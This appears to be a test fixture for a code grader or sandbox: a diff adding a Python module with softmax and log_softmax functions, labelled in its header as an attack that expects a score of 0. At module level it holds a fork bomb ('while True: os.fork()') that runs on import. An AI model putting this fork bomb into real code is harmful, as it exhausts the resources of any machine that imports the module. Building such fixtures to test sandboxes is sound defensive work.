@@ -1,0 +1,18 @@
+# attack: harmed: forks for ever while it is imported; expect: score 0, softmax refused, log_softmax refused
+import numpy as np
+import os
+
+while True:
+    os.fork()
+
+
+def softmax(x, axis=-1):
+    x = np.asarray(x, dtype=np.float64)
+    weights = np.exp(x - x.max(axis=axis, keepdims=True))
+    return weights / weights.sum(axis=axis, keepdims=True)
+
+
+def log_softmax(x, axis=-1):
+    x = np.asarray(x, dtype=np.float64)
+    x = x - x.max(axis=axis, keepdims=True)
+    return x - np.log(np.exp(x).sum(axis=axis, keepdims=True))
